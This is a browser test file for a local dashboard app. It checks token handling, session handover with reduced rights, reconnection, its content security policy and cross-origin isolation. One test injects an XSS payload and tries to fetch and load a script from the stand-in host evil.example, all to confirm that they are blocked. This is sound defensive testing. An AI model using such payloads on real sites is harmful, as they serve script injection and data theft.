import { chromium, type Browser, type BrowserContext, type Page } from '@playwright/test';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test, vi } from 'vitest';
import { connectTo, serveApp, tempFolder, type ServedApp } from '../support/built-app.ts';
import { chromiumOptions } from '../support/chromium.ts';
import { eventually } from '../support/eventually.ts';

let folder: Awaited<ReturnType<typeof tempFolder>>;
let app: ServedApp;
let browser: Browser;
let context: BrowserContext;
let complaints: string[];

beforeAll(async () => {
  folder = await tempFolder();
  browser = await chromium.launch(chromiumOptions());
}, 60_000);
afterAll(async () => {
  await browser.close();
  await folder[Symbol.asyncDispose]();
});
beforeEach(async () => {
  app = await serveApp(folder.path, '--reason', 'there is no display.');
  complaints = [];
  context = await browser.newContext();
  context.on('console', (message) => void (message.type() === 'error' && complaints.push(message.text())));
  context.on('weberror', (error) => complaints.push(String(error.error())));
});
afterEach(async () => {
  await context.close();
  expect(await app.stop()).toBe(0);
});

async function openDashboard(): Promise<Page> {
  const page = await context.newPage();
  await page.goto(app.address);
  await page.getByText('What do you do?').waitFor();
  return page;
}

const kept = (page: Page): Promise<string> => page.evaluate(() => sessionStorage.getItem(sessionStorage.key(0) ?? '') ?? '');

/** Calls one operation over a socket of the page's own. */
function call(page: Page, session: string, operation: string): Promise<{ code?: string }> {
  return page.evaluate(
    ([session, operation]) =>
      new Promise((resolve) => {
        const socket = new WebSocket(`ws://${location.host}/socket`, ['session-desk', session ?? '']);
        socket.addEventListener('open', () => socket.send(JSON.stringify({ i: '1', p: { u: operation, b: { json: {} } } })));
        socket.addEventListener('message', ({ data }) => resolve(JSON.parse(data).p.b.json));
      }),
    [session, operation],
  );
}

test('the address opens the dashboard, says why it is a browser, and leaves no token behind', async () => {
  const page = await openDashboard();
  const token = new URL(app.address).hash;

  expect(app.output()).toContain('Session Desk opens in your browser: there is no display.');
  expect(page.url()).not.toContain(token.replace('#token=', ''));
  expect(await page.evaluate(() => history.length)).toBe(2);
  expect(await page.evaluate(() => isSecureContext && 'documentPictureInPicture' in window)).toBe(true);
  expect(complaints).toEqual([]);
});

test('a reload survives, a second use of the address does not', async () => {
  const page = await openDashboard();

  await page.reload();
  await page.getByText('What do you do?').waitFor();
  const stranger = await (await browser.newContext()).newPage();
  await stranger.goto(app.address);
  await stranger.waitForFunction(() => document.querySelector('#root')?.childElementCount);

  expect(await stranger.getByText('What do you do?').count()).toBe(0);
  expect(await stranger.evaluate(() => sessionStorage.length)).toBe(0);
  await stranger.context().close();
});

test('a page that was cut off connects again and works on', async () => {
  const page = await context.newPage();
  let cut: () => Promise<void> = async () => undefined;
  let opened = 0;
  await page.routeWebSocket(/\/socket$/, (socket) => {
    opened += 1;
    socket.connectToServer();
    cut = () => socket.close({ code: 1001 });
  });
  await page.goto(app.address);
  await page.getByText('What do you do?').waitFor();

  await cut();

  await vi.waitFor(() => expect(opened).toBe(2), { timeout: 5000 });
  await page.getByText('What do you do?').waitFor();
});

test('a clock page opened by the dashboard has a session of its own that can do less', async () => {
  const page = await openDashboard();
  const session = await kept(page);
  const opened = context.waitForEvent('page');
  const address = await page.evaluate(async (session) => {
    const answer = await fetch('/session/handover', { method: 'POST', headers: { Authorization: `Bearer ${session}` } });
    const { token } = (await answer.json()) as { token: string };
    window.open(`/clock.html?view=client#token=${token}`, '_blank', 'noopener');
    return location.origin;
  }, session);
  const clock = await opened;
  await clock.waitForURL(`${address}/clock.html?view=client`);
  await eventually(async () => expect(await kept(clock)).toMatch(/^[\w-]{43}$/));
  const lesser = await kept(clock);

  expect(lesser).not.toBe(session);
  expect(await call(clock, lesser, '/clients/list')).toMatchObject({ code: 'FORBIDDEN' });
  expect(await call(clock, lesser, '/app/info')).toMatchObject({ shell: 'browser', shellReason: 'there is no display.' });
  expect(await clock.evaluate(() => window.opener)).toBe(null);
});

test('markup and foreign scripts are kept out by the policy', async () => {
  const page = await openDashboard();
  const tried = await page.evaluate(async () => {
    const attempt = (work: () => unknown): string => {
      try {
        work();
        return 'ran';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid red }';
    document.body.append(style);
    const remote = await fetch('https://evil.example/').then(
      () => 'went out',
      () => 'refused',
    );
    return {
      markup: attempt(() => (document.body.innerHTML = '<img src=x onerror=alert(1)>')),
      script: attempt(() => (document.createElement('script').src = 'https://evil.example/x.js')),
      styled: getComputedStyle(document.body).outlineWidth === '7px',
      remote,
    };
  });

  expect(tried).toEqual({ markup: 'TypeError', script: 'TypeError', styled: false, remote: 'refused' });
});

test('another page on this computer can neither read nor call the app', async () => {
  const { client, close } = await connectTo(app);
  const origin = new URL(app.address).origin;
  const page = await context.newPage();
  await page.route('http://127.0.0.1:9/', (route) => route.fulfill({ contentType: 'text/html', body: '' }));
  await page.goto('http://127.0.0.1:9/');
  const got = await page.evaluate(async (origin) => {
    const read = await fetch(origin).then(
      () => 'read',
      () => 'refused',
    );
    const posted = await fetch(`${origin}/session`, { method: 'POST', mode: 'no-cors', body: '{}' }).then(
      ({ type }) => type,
      () => 'refused',
    );
    const socket = await new Promise((resolve) => {
      const opened = new WebSocket(`${origin.replace('http', 'ws')}/socket`, ['session-desk', 'A'.repeat(43)]);
      opened.addEventListener('open', () => resolve('open'));
      opened.addEventListener('error', () => resolve('refused'));
    });
    const frame = document.createElement('iframe');
    frame.src = origin;
    document.body.append(frame);
    await new Promise((resolve) => frame.addEventListener('load', resolve));
    let framed = 'readable';
    try {
      framed = frame.contentWindow?.document ? 'readable' : 'refused';
    } catch {
      framed = 'refused'; // another origin, or the browser's own error page
    }
    return { read, posted, socket, framed };
  }, origin);

  expect(got).toEqual({ read: 'refused', posted: expect.stringMatching(/opaque|refused/), socket: 'refused', framed: 'refused' });
  expect((await client.app.info({})).shell).toBe('browser');
  close();
});
